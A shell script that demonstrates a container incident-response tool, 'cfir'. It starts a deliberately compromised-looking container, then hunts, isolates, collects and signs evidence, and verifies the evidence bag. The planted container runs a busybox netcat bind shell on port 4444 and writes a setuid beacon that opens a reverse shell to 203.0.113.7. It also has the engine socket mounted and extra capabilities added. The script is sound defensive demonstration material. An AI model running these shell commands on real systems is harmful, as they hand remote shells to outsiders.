#!/bin/sh
# make demo: a deliberately suspicious container, hunted, cut off the
# network, collected into a sealed and signed evidence bag, the bag
# verified (cfir's own verify, minisign, then coreutils alone), and its
# timeline and report written.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
. "$here/lib/engine.sh"
: "${CFIR:?}"

name=cfir-demo
bag=${DEMO_BAG:-$PWD/cfir-demo-bag}
docker rm -f "$name" >/dev/null 2>&1 || true
trap 'docker rm -f "$name" >/dev/null 2>&1' EXIT
rm -rf "$bag"

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "a suspicious container: SYS_ADMIN and NET_RAW added, the engine socket"
echo "   mounted, a shell listener on :4444 run from a copy of busybox that"
echo "   deleted itself from disk"
docker run -d --name "$name" --label cfir-demo=1 \
	--cap-add SYS_ADMIN --cap-add NET_RAW \
	-v /var/run/docker.sock:/var/run/docker.sock \
	"$TEST_IMAGE" sh -c '
		mkdir /tmp/.x; cp /bin/busybox /tmp/.x/busybox
		/tmp/.x/busybox nc -ll -p 4444 -e /bin/sh &
		printf "#!/bin/sh\nwhile :; do nc 203.0.113.7 443 -e /bin/sh; sleep 60; done\n" >/tmp/.x/beacon.sh
		chmod 4755 /tmp/.x/beacon.sh
		sleep 1; rm -f /tmp/.x/busybox
		echo "connecting to 203.0.113.7:443"; echo "stage 2 fetched" >&2
		while sleep 5; do :; done' >/dev/null
sleep 2

step "cfir ls: every container on this host, from the engine and from the runtimes' own state"
"$CFIR" --format text ls | grep -E "^SOURCE|$name" || true

step "cfir hunt: which containers here are dangerous, which look compromised"
"$CFIR" --format text hunt --skip no-healthcheck,no-log-rotation,no-restart-policy "$name" || true

step "cfir keygen: a minisign key pair to sign the sealed bag"
keys=$(mktemp -d)
trap 'docker rm -f "$name" >/dev/null 2>&1; rm -rf "$keys"' EXIT
"$CFIR" keygen -o "$keys" --no-passphrase

step "playbooks/contain-and-collect: hunt, isolate, collect, seal, verify"
case=$bag
mkdir -p "$case"
CFIR=$CFIR "$here/../playbooks/contain-and-collect" -o "$case" -k "$keys/cfir.key" -p "$keys/cfir.pub" "$name" |
	grep -v '^SEVERITY\|^[a-z]* *[a-z-]* *cfir-demo ' || true
bag=$case/$name

step "the signature checked by Debian's minisign"
minisign -Vm "$bag/tagmanifest-sha256.txt" -p "$keys/cfir.pub"

step "the same bag checked with coreutils alone"
(cd "$bag" && sha256sum -c --quiet manifest-sha256.txt && sha256sum -c --quiet tagmanifest-sha256.txt && echo "every file: OK")

step "the custody log: one hash-chained record per step"
jq -c '{seq, action, status, artifacts: (.artifacts | length), prev: .prev[0:16]}' "$bag/custody/log.jsonl"

step "the container: cut off, frozen, still there"
docker inspect -f '{{.Name}}: paused={{.State.Paused}} networks={{len .NetworkSettings.Networks}}' "$name"

step "cfir timeline: every time in the bag as events for Timesketch (the first few)"
"$CFIR" timeline "$bag" | head -n 4 | cut -c 1-160

step "cfir report: the page the examiner opens first (verified, signature checked)"
"$CFIR" --format text report -p "$keys/cfir.pub" "$bag"
printf '\nThe evidence bag is in %s\nIts report: %s-report.html\n' "$bag" "$bag"
